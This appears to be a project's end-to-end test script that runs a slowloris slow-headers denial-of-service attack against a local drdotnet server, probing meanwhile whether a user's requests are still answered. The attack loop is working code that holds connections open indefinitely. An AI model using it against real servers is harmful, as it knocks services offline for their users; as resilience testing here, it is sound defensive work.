#!/usr/bin/env python3
"""A slow-headers attack on drdotnet serve, with the page's user asking for pages meanwhile (tests/e2e/web_slow.sh).

  slowloris.py PORT TOKEN CONNECTIONS SECONDS

Keeps CONNECTIONS connections that each send a request line and then one header line every 2 s, never ending the
head; a connection the server closes is opened again at once (at most OPENS_PER_S a second, to spare the test
machine). Every 2 s, a user's request (GET /api/info with the
token) on a fresh connection, given 5 s. Prints one line per probe, then summary lines:
  probes N answered M slowest_ms X
  attack opened N closed_by_server M longest_held_s X
Exits 0 whatever happened: the shell test judges the figures.
"""
import selectors
import socket
import sys
import threading
import time

LINE_EVERY_S = 2.0
PROBE_EVERY_S = 2.0
PROBE_TIMEOUT_S = 5.0
OPENS_PER_S = 200


class Attacker:
    def __init__(self, port):
        self.port = port
        self.sel = selectors.DefaultSelector()
        self.opened = 0
        self.closed_by_server = 0
        self.longest = 0.0
        self.conns = {}  # socket -> (opened at, next line at)

    def open_one(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex(("127.0.0.1", self.port))
        now = time.monotonic()
        self.conns[s] = [now, now, 0]
        self.sel.register(s, selectors.EVENT_READ)
        self.opened += 1

    def drop(self, s, by_server):
        opened_at = self.conns.pop(s)[0]
        if by_server:
            self.closed_by_server += 1
            self.longest = max(self.longest, time.monotonic() - opened_at)
        self.sel.unregister(s)
        s.close()

    def tick(self):
        now = time.monotonic()
        for key, _ in self.sel.select(timeout=0):
            try:
                data = key.fileobj.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                self.drop(key.fileobj, True)
        for s, st in list(self.conns.items()):
            if now < st[1]:
                continue
            line = (f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{self.port}\r\n" if st[2] == 0 else f"X-Slow-{st[2]}: a\r\n")
            try:
                s.send(line.encode())
                st[2] += 1
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                self.drop(s, True)
                continue
            st[1] = now + LINE_EVERY_S


def probe(port, token):
    t0 = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=PROBE_TIMEOUT_S) as s:
            s.settimeout(max(0.1, PROBE_TIMEOUT_S - (time.monotonic() - t0)))
            s.sendall(f"GET /api/info HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-DrDotnet-Token: {token}\r\n"
                      "Connection: close\r\n\r\n".encode())
            reply = s.recv(64)
        status = reply.split(b" ")[1].decode() if reply.startswith(b"HTTP/1.1 ") else "no reply"
    except OSError as e:
        status = type(e).__name__
    return status, (time.monotonic() - t0) * 1000


def prober(port, token, stop, results, attack):
    time.sleep(3.0)  # the attack in place first
    while not stop.is_set():
        status, took = probe(port, token)
        results.append((status, took))
        print(f"probe {len(results)}: {status} in {took:.0f} ms, {len(attack.conns)} slow connections", flush=True)
        stop.wait(PROBE_EVERY_S)


def main():
    port, token, n, seconds = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    attack = Attacker(port)
    stop = threading.Event()
    results = []
    user = threading.Thread(target=prober, args=(port, token, stop, results, attack))
    user.start()
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        allowed = OPENS_PER_S * (time.monotonic() - start) + n
        while len(attack.conns) < n and attack.opened < allowed:
            attack.open_one()
        attack.tick()
        time.sleep(0.02)
    stop.set()
    user.join()
    answered = sum(1 for st, _ in results if st == "200")
    slowest = max((took for _, took in results), default=0)
    print(f"probes {len(results)} answered {answered} slowest_ms {slowest:.0f}")
    print(f"attack opened {attack.opened} closed_by_server {attack.closed_by_server} longest_held_s {attack.longest:.1f}")


if __name__ == "__main__":
    main()
